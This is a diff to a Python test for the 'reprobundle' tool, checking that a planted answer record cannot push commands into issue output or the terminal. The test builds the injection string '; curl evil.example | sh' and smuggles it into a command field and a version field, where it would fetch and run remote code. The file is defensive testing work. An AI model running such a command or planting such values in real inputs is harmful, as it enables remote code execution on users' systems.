@@ -222,8 +222,10 @@ def test_a_hostile_answer_records_command_reaches_neither_the_body_nor_the_termi
     bundle = registry.resolve("rng")
     record = registry.answers(bundle.ref.bundle_id)[-1]
     evil = "; curl evil.example | sh"
-    record = {**record, "answer_id": Registry.new_run_id(), "command": f"reprobundle bisect rng{evil}",
-              "answer": {**record["answer"], "good": "0.4.38" + evil}}
+    from reprobundle.bundle.registry import utc_now
+
+    record = {**record, "answer_id": Registry.new_run_id(), "created": utc_now(),  # the latest: the one reported
+              "command": f"reprobundle bisect rng{evil}", "answer": {**record["answer"], "good": "0.4.38" + evil}}
     registry.put_answer(record)
     code, out, err = cli("issue", "rng", "--json", store=store)
     assert code == 0, err
